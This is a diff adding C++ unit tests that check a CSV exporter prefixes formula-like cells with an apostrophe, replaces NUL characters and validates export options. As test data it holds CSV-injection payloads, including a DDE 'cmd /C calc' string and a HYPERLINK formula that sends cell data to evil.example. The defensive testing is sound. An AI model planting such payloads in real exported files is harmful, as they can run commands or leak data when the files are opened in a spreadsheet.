@@ -6,6 +6,7 @@
 #include <string>
 #include <vector>
 
+#include "engine/error.hpp"
 #include "engine/export/csv_writer.hpp"
 #include "engine/timestamp.hpp"
 
@@ -96,8 +97,8 @@ struct CsvRow {
   }
 };
 
-std::vector<Record> export_rows(const std::vector<CsvRow>& rows) {
-  CsvWriter writer;
+std::vector<Record> export_rows(const std::vector<CsvRow>& rows, CsvFormulas formulas = CsvFormulas::escape) {
+  CsvWriter writer(kDefaultFlushBytes, formulas);
   StringSink sink;
   writer.begin(sink);
   for (const CsvRow& r : rows) writer.row(r.view());
@@ -238,6 +239,102 @@ TEST_CASE("csv: append_csv_field quotes exactly when RFC 4180 needs it", "[expor
   CHECK(field("a\nb") == "\"a\nb\"");
   CHECK(field("a\rb") == "\"a\rb\"");
   CHECK(field("ünï 🙂") == "ünï 🙂");
+}
+
+TEST_CASE("csv: text cells that start like a formula get a ' in front; numbers stay numbers", "[export][csv]") {
+  CsvRow r;
+  r.dataset = "=cmd|' /C calc'!A0";
+  r.span_id = "+1-555-0100";
+  r.session_id = "@SUM(1+1)*cmd|' /C calc'!A0";
+  r.trace_id = "-2+3";
+  r.input = R"x([{"role":"user","content":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"}])x";
+  r.output = R"("\tleading tab")";
+  r.metadata = R"({"name":"\r=1+1","model":"=gpt","task":"a=b","user_id":"-","environment":"@home","provider":"+x",)"
+               R"("input_tokens":-5,"cost_usd":-0.25,"kind":"llm_call"})";
+  const auto escaped = export_rows({r});
+  const Record& row = escaped[1];
+  CHECK(cell(row, "dataset") == "'=cmd|' /C calc'!A0");
+  CHECK(cell(row, "source_span_id") == "'+1-555-0100");
+  CHECK(cell(row, "session_id") == "'@SUM(1+1)*cmd|' /C calc'!A0");
+  CHECK(cell(row, "trace_id") == "'-2+3");
+  CHECK(cell(row, "input_text") == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+  CHECK(cell(row, "output_text") == "'\tleading tab");
+  CHECK(cell(row, "name") == "'\r=1+1");
+  CHECK(cell(row, "model") == "'=gpt");
+  CHECK(cell(row, "task") == "a=b");  // only the first character counts
+  CHECK(cell(row, "user_id") == "'-");
+  CHECK(cell(row, "environment") == "'@home");
+  CHECK(cell(row, "provider") == "'+x");
+  CHECK(cell(row, "kind") == "llm_call");
+  CHECK(cell(row, "input_tokens") == "-5");  // a JSON number is a number, never a formula
+  CHECK(cell(row, "cost_usd") == "-0.25");
+  CHECK(cell(row, "input_json") == *r.input);  // starts with '['
+  // raw: every cell as it is.
+  const auto raw = export_rows({r}, CsvFormulas::raw);
+  CHECK(cell(raw[1], "dataset") == r.dataset);
+  CHECK(cell(raw[1], "input_text") == "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+  CHECK(cell(raw[1], "name") == "\r=1+1");
+  CHECK(cell(raw[1], "output_text") == "\tleading tab");
+}
+
+TEST_CASE("csv: a NUL character is written as U+FFFD; the JSON columns keep its escape", "[export][csv]") {
+  CsvRow r;
+  r.input = R"([{"role":"user","content":"before\u0000after"}])";
+  r.metadata = R"({"model":"m\u0000","name":"\u0000=x"})";
+  for (const CsvFormulas formulas : {CsvFormulas::escape, CsvFormulas::raw}) {
+    CsvWriter writer(kDefaultFlushBytes, formulas);
+    StringSink sink;
+    writer.begin(sink);
+    writer.row(r.view());
+    writer.end();
+    CHECK(sink.text.find('\0') == std::string::npos);
+    const auto records = read_csv(sink.text);
+    REQUIRE(records.size() == 2);
+    CHECK(cell(records[1], "input_text") ==
+          "before\xEF\xBF\xBD"
+          "after");
+    CHECK(cell(records[1], "model") == "m\xEF\xBF\xBD");
+    CHECK(cell(records[1], "name") == "\xEF\xBF\xBD=x");  // starts with U+FFFD, not '='
+    CHECK(cell(records[1], "input_json") == *r.input);
+  }
+  std::string out;
+  append_csv_field(out, std::string_view("a\0b,c", 5));
+  CHECK(out ==
+        "\"a\xEF\xBF\xBD"
+        "b,c\"");
+}
+
+TEST_CASE("csv: append_csv_field prefixes formulas inside quotes too, and leaves them raw when asked",
+          "[export][csv]") {
+  const auto field = [](std::string_view v, CsvFormulas f) {
+    std::string out;
+    append_csv_field(out, v, f);
+    return out;
+  };
+  CHECK(field("=1+1", CsvFormulas::escape) == "'=1+1");
+  CHECK(field("=SUM(A1,A2)", CsvFormulas::escape) == "\"'=SUM(A1,A2)\"");
+  CHECK(field("=\"x\"", CsvFormulas::escape) == "\"'=\"\"x\"\"\"");
+  CHECK(field("\rx", CsvFormulas::escape) == "\"'\rx\"");
+  CHECK(field("\tx", CsvFormulas::escape) == "'\tx");
+  CHECK(field("=SUM(A1,A2)", CsvFormulas::raw) == "\"=SUM(A1,A2)\"");
+  CHECK(field("-", CsvFormulas::raw) == "-");
+  CHECK(field("", CsvFormulas::escape) == "\"\"");
+  CHECK(field("x=1", CsvFormulas::escape) == "x=1");
+}
+
+TEST_CASE("csv: export options are read from JSON, and unknown ones are refused", "[export][csv]") {
+  CHECK(parse_export_options("{}").csv_formulas == CsvFormulas::escape);
+  CHECK(parse_export_options(R"({"csv_formulas":"raw"})").csv_formulas == CsvFormulas::raw);
+  CHECK(parse_export_options(R"({"csv_formulas":"escape"})").csv_formulas == CsvFormulas::escape);
+  for (const std::string bad :
+       {R"({"csv_formulas":"yes"})", R"({"csv_formulas":1})", R"({"formulas":"raw"})", "[]", "not json"}) {
+    try {
+      parse_export_options(bad);
+      FAIL("accepted " << bad);
+    } catch (const Error& e) {
+      CHECK(e.code() == Errc::invalid_argument);
+    }
+  }
 }
 
 }  // namespace test_export_csv
